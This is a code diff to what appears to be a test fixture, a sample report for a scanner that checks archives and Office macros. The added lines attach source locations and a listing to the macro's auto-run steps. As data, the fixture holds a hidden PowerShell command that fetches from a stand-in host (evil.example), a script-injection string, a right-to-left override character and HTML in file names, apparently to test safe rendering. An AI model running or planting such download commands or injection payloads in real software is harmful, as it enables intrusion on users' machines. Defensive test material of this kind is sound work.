@@ -15,6 +15,7 @@ export const sampleReport = () => ({
   engine: { version: "0.1.0", rules: "2026-11-22" },
   verdict: { level: "stop", incomplete: true, reasons: ["vba.auto-run-acts", "archive.encrypted"] },
   counts: { checked: 5, unchecked: 1 },
+  checks: { kinds: "done", macros: "partly", codes: "not-done", mail: "not-applicable" },
   advice: ["B1", "M3", "E1", "B2", "B4"],
   artifacts: [
     { id: 0, parent: null, name: hostileName, origin: { kind: "input" }, format: "zip", class: "archive", size: 1234, sha256: "ab".repeat(32), status: "partial" },
@@ -36,10 +37,12 @@ export const sampleReport = () => ({
   story: [
     { step: "open", artifact: 0, detail: "" },
     { step: "inside", artifact: 1, detail: "" },
-    { step: "start", artifact: 1, detail: "Workbook_Open" },
-    { step: "run", artifact: 1, detail: "powershell -w hidden \u202Ehttps://evil.example/b <b>" },
-    { step: "download", artifact: 1, detail: "https://evil.example/b" },
+    { step: "start", artifact: 1, detail: "Workbook_Open", at: { path: "VBA/ThisWorkbook", line: 2, offset: null, excerpt: "Private Sub Workbook_Open()" } },
+    { step: "run", artifact: 1, detail: "powershell -w hidden \u202Ehttps://evil.example/b <b>",
+      at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "CreateObject(x).Run y" } },
+    { step: "download", artifact: 1, detail: "https://evil.example/b", at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "CreateObject(x).Run y" } },
   ],
+  listings: [{ artifact: 1, path: "VBA/This<b>Workbook", stretches: [{ line: 1, text: "' \u202E<script>alert(1)</script>\r\nPrivate Sub Workbook_Open()\rCreateObject(x).Run y ' https://evil.example/c\nEnd Sub\n" }], marked: [2, 3], cut: true }],
 });
 
 /** A node that remembers what was done to it; markup in text stays text. */
